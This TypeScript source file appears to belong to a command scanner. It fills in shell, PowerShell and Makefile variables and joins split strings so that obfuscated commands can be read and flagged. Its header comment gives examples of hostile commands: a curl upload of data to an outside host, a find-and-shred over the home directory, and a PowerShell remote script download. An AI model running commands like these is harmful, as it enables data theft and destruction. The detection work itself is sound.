/**
 * Commands read with the values their variables were given, and string pieces joined (issue 15 item 1:
 * normalise first). A command assembled at run time from innocent pieces reads as what it runs:
 *
 *   local a=cu b=rl h='dotsync' t='.workers' u='.dev'   →   $a$b -d "k=$p" "https://$h$t$u/s"
 *                                                          reads  curl -d "k=$p" "https://dotsync.workers.dev/s"
 *   CACHE_ROOTS="$HOME"; find $CACHE_ROOTS … -exec shred  →  find $HOME … -exec shred
 *   $u = -join ('ht','tps://','x.','dev/p.ps1'); ('Download'+'String')  →  'https://x.dev/p.ps1', 'DownloadString'
 *
 * Only literal values are carried (a quoted string or a bare word, itself read with the values known so
 * far); a variable set from a command substitution, `read` or anything else is forgotten, so nothing is
 * guessed. Variables carry from block to block, as a shell session keeps them. Each resolved command is
 * a unit of its own (`synthetic`: its text is not drawn from the raw lines, so the prefilter reads it
 * as a text of its own, like a decoded blob), placed right after the command it reads, so the line
 * rules, the document rules and the cross-line flow all see it. Linear: one pass over the commands,
 * every value and every result bounded (GUARD.resolvedValueChars, GUARD.resolvedUnitChars).
 */
import { GUARD } from '../core/limits.ts'
import type { Unit } from './normalize.ts'

/** A literal joined to a literal with `+` (JS, Python, PowerShell, C#): `'Down' + 'load'`. */
const PLUS_PAIR = /(["'])([^"'\n\\]{0,200})\1\s{0,3}\+\s{0,3}(["'])([^"'\n\\]{0,200})\3/g
/** A list of literals joined with nothing between them: PowerShell `-join ('a','b')`, Python `''.join(['a','b'])`, JS `['a','b'].join('')`. */
const JOIN_LIST = /-join\s{0,3}\(\s{0,3}((?:["'][^"'\n\\]{0,200}["']\s{0,3},\s{0,3}){1,40}["'][^"'\n\\]{0,200}["'])\s{0,3}\)|(?:''|"")\.join\(\s{0,3}[[(]\s{0,3}((?:["'][^"'\n\\]{0,200}["']\s{0,3},\s{0,3}){1,40}["'][^"'\n\\]{0,200}["'])\s{0,3}[\])]\s{0,3}\)|\[\s{0,3}((?:["'][^"'\n\\]{0,200}["']\s{0,3},\s{0,3}){1,40}["'][^"'\n\\]{0,200}["'])\s{0,3}\]\.join\(\s{0,3}(?:''|""|)\s{0,3}\)/g
const LITERAL = /["']([^"'\n\\]{0,200})["']/g
/** Six or more printable characters written as octal (`\143`) or hex (`\x63`) escapes. */
const OCTAL_RUN = /(?:\\(?:0[4-7][0-7]|1[0-7][0-7])){6,2000}/g
const HEX_ESC_RUN = /(?:\\x[2-7][0-9a-fA-F]){6,2000}/g
/** Shell quotes that touch (`c""url`, `"ht""tps"`): the shell joins them. */
const TOUCHING_QUOTES = /(?<=\S)(?:""|'')(?=\S)/g

/** Joins string pieces the code itself joins; the text unchanged when there are none. */
export function joinPieces(text: string): string {
  if (!/["'\\]/.test(text)) return text
  // printf / echo -e / $'…' escapes spelled out (`\143\165\162\154` is "curl"): read as the characters.
  let t = text.includes('\\') ? text.replace(OCTAL_RUN, (run) => String.fromCharCode(...run.split('\\').slice(1).map((o) => parseInt(o, 8)))).replace(HEX_ESC_RUN, (run) => String.fromCharCode(...run.split('\\x').slice(1).map((h) => parseInt(h, 16)))) : text
  t = t.replace(TOUCHING_QUOTES, '')
  t = t.replace(JOIN_LIST, (_m, a?: string, b?: string, c?: string) => {
    const list = (a ?? b ?? c)!
    return "'" + [...list.matchAll(LITERAL)].map((x) => x[1]).join('') + "'"
  })
  // `'a' + 'b' + 'c'`: each round joins pairs; a chain of n pieces needs about log2(n) rounds.
  for (let round = 0; round < 8 && t.includes('+'); round++) {
    const next = t.replace(PLUS_PAIR, (_m, q: string, a: string, _q2: string, b: string) => q + a + b + q)
    if (next === t) break
    t = next
  }
  return t
}

/**
 * Shell assignments at a command's start (`a=1 b='x' cmd`, `export A=…`, `local a=… b=…`) and
 * PowerShell ones (`$u = '…'`). Group 1/2: shell name, value; 3/4: PowerShell name, value.
 */
const SHELL_ASSIGN = /(?:^|[;&|({]\s{0,3}|\b(?:then|do|else|export|local|readonly|typeset|declare(?:\s{1,3}-[a-zA-Z]{1,4}|))\s{1,3}|\s)([A-Za-z_]\w{0,40})=('[^'\n]{0,300}'|"[^"\n`]{0,300}"|[^\s;&|()<>'"`]{0,300})(?=[\s;&|)]|$)/g
const PS_ASSIGN = /^\s{0,8}\$([A-Za-z_]\w{0,40})\s{0,3}=\s{0,3}(["'])([^"'\n`]{0,300})\2\s{0,3};?\s{0,3}$/
const MAKE_ASSIGN = /^\s{0,8}([A-Za-z_][\w.]{0,40})\s{0,8}(?:\?=|:=|::=|=)\s{0,3}([^\n]{0,300})$/
/** Session 8: `NAME=/dev/$(…)` or `NAME="/dev/${…}"`: a device path whose last part is substituted. */
const DEVICE_ASSIGN = /(?:^|[;&|({]\s{0,3}|\s)([A-Za-z_]\w{0,40})=["']?\/dev\/(?:\$\(|\$\{|\$[A-Za-z_]|`)/g
/** Session 9: `for NAME in WORDS; do` / `for NAME in WORDS` (do on the next line): group 1 the name, 2 the words. */
const LOOP_WORDS = /\bfor\s{1,3}([A-Za-z_]\w{0,40})\s{1,3}in\s([^;\n]{1,400})(?:;|$)/
export const RESOLVE_HELPER_PATTERNS: readonly RegExp[] = [LOOP_WORDS]
const MAKE_REF = /\$\(([A-Za-z_][\w.]{0,40})\)/g
function fillMake(text: string, vars: ReadonlyMap<string, string>): string {
  return text.replace(MAKE_REF, (m, name: string) => vars.get(name) ?? m)
}
/** A reference to a variable: `$NAME`, `${NAME}`, or (session 8) `${NAME:-default}` read as NAME when it is known (not `$(`). */
const REF = /\$\{([A-Za-z_]\w{0,40})\}|\$([A-Za-z_]\w{0,40})|\$\{([A-Za-z_]\w{0,40}):?[-=][^}\n$]{0,80}(?:\$[A-Za-z_]\w{0,40}|)\}/g

function unquote(v: string): string {
  return /^'.*'$|^".*"$/s.test(v) && v.length >= 2 ? v.slice(1, -1) : v
}

/**
 * `text` with every known variable replaced by its value, unknown ones left as written, cut at `max`
 * characters: the loop stops there, so 1.9 M references to a 300-character value never build a string
 * (String.replace did, and threw RangeError: Invalid string length; reviewer v, t14).
 */
function fill(text: string, vars: ReadonlyMap<string, string>, max: number): string {
  if (!vars.size || !text.includes('$')) return text.slice(0, max)
  let out = ''
  let from = 0
  const re = new RegExp(REF.source, 'g')
  for (let m = re.exec(text); m && out.length < max; m = re.exec(text)) {
    out += text.slice(from, m.index) + (vars.get((m[1] ?? m[2] ?? m[3])!) ?? m[0])
    from = m.index + m[0].length
  }
  if (out.length < max) out += text.slice(from, from + max - out.length)
  return out.slice(0, max)
}

/**
 * The units with, after each command that reads differently once its variables are filled in and its
 * string pieces joined, a synthetic command unit holding that reading. Other units are kept as they are.
 */
export function withResolvedCommands(units: readonly Unit[]): Unit[] {
  if (!units.some((u) => u.kind === 'command' && (u.text.includes('$') || u.text.includes('+') || u.text.includes('\\') || /-join|\.join\(|""|''/.test(u.text)))) return [...units]
  const vars = new Map<string, string>()
  const makeVars = new Map<string, string>()
  /** Session 9: the literal words of each `for NAME in …` loop seen so far. */
  const loops = new Map<string, string[]>()
  const out: Unit[] = []
  let made = 0
  // Synthetic text per file: at most twice its commands' text (plus one unit), and never past resolvedBudgetChars.
  let budget: number = GUARD.resolvedUnitChars
  for (const u of units) if (u.kind === 'command') budget += 2 * u.text.length
  budget = Math.min(budget, GUARD.resolvedBudgetChars)
  for (const u of units) {
    out.push(u)
    if (u.kind !== 'command' || u.context !== 'code') continue
    // Checked before any work: a command too long to be hand-written is read as it stands.
    if (made >= GUARD.resolvedMaxUnits || budget <= 0 || u.text.length > GUARD.resolvedSourceMaxChars) continue
    const joined = joinPieces(u.text)
    // Values set on this command, each read with what is known before it (left to right).
    const ps = PS_ASSIGN.exec(joined)
    if (ps) vars.set(ps[1]!, fill(ps[3]!, vars, GUARD.resolvedValueChars))
    else {
      for (const m of joined.matchAll(SHELL_ASSIGN)) {
        const name = m[1]!
        const raw = m[2]!
        // A value the guard cannot know (a substitution, arithmetic) is forgotten, never guessed.
        if (/\$\(|\$\[|`/.test(raw) || vars.size >= GUARD.resolvedMaxVariables) vars.delete(name)
        else vars.set(name, fill(unquote(raw), vars, GUARD.resolvedValueChars))
      }
      // Session 8: a device path built by a substitution (`P=/dev/$(lsblk -no pkname …)`): which device is
      // not known, that it is a device is. Kept as `/dev/$(…)`, so a later `dd of="$P"` reads as a device write.
      for (const m of joined.matchAll(DEVICE_ASSIGN)) if (vars.size < GUARD.resolvedMaxVariables) vars.set(m[1]!, '/dev/$(…)')
      // `read NAME`, `for NAME in`, `NAME+=`: the value is not a literal any more.
      for (const m of joined.matchAll(/\b(?:read(?:\s{1,3}-[a-zA-Z]{1,4}){0,3}|for)\s{1,3}([A-Za-z_]\w{0,40})\b|\b([A-Za-z_]\w{0,40})(?:\+=|=["']?(?:\$\(|\$\[|`))/g)) {
        vars.delete((m[1] ?? m[2])!)
        loops.delete((m[1] ?? m[2])!)
      }
      // Session 9: `for f in ~/.ssh/authorized_keys /root/.ssh/authorized_keys; do`: literal words only (no
      // substitution, no glob), each read into the loop's commands below, one synthetic unit per word.
      const loop = LOOP_WORDS.exec(joined)
      if (loop && !/[`*?[]|\$\(/.test(loop[2]!) && loops.size < GUARD.resolvedMaxVariables) {
        const words = fill(loop[2]!, vars, GUARD.resolvedValueChars * GUARD.resolvedLoopValues).trim().split(/\s{1,8}/).map(unquote).filter((w) => w.length > 0)
        if (words.length) loops.set(loop[1]!, words.slice(0, GUARD.resolvedLoopValues))
      }
    }
    // Makefile variables: `NAME = value`, `NAME ?= …`, `NAME := …`, read back where `$(NAME)` stands; `$$` is a `$`.
    const mk = MAKE_ASSIGN.exec(joined)
    if (mk) {
      if (/\$\((?:shell|wildcard|call|eval)\b|`/.test(mk[2]!) || makeVars.size >= GUARD.resolvedMaxVariables) makeVars.delete(mk[1]!)
      else makeVars.set(mk[1]!, fillMake(mk[2]!.trim(), makeVars).slice(0, GUARD.resolvedValueChars))
    }
    const made1 = makeVars.size && joined.includes('$(') ? fillMake(joined, makeVars) : joined
    // In a recipe `$$` is a `$`, and an unset `$(NAME)` reads the environment, as `${NAME}` does in the shell.
    const shellish = made1 === joined ? joined : made1.replace(/\$\$/g, '$').replace(/\$\(([A-Z_][A-Z0-9_]{0,40})\)/g, '$${$1}')
    // Session 9: a command naming a loop's variable is read once per literal word of the loop.
    const loopNames = loops.size && shellish.includes('$') ? [...loops.keys()].filter((n) => !vars.has(n) && new RegExp(`\\$\\{?${n}\\b`).test(shellish)) : []
    if (loopNames.length && !LOOP_WORDS.test(joined)) {
      const name = loopNames[0]!
      for (const word of loops.get(name)!) {
        if (made >= GUARD.resolvedMaxUnits || budget <= 0) break
        vars.set(name, word)
        const each = fill(shellish, vars, Math.min(GUARD.resolvedUnitChars, budget))
        vars.delete(name)
        if (each === u.text) continue
        made++
        budget -= each.length
        out.push({ text: each, line: u.line, endLine: u.endLine, context: 'code', kind: 'command', changed: true, table: u.table, next: undefined, prev: undefined, fenced: undefined, synthetic: true })
      }
      continue
    }
    const text = fill(shellish, vars, Math.min(GUARD.resolvedUnitChars, budget))
    if (text === u.text) continue
    made++
    budget -= text.length
    out.push({ text, line: u.line, endLine: u.endLine, context: 'code', kind: 'command', changed: true, table: u.table, next: undefined, prev: undefined, fenced: undefined, synthetic: true })
  }
  return out
}
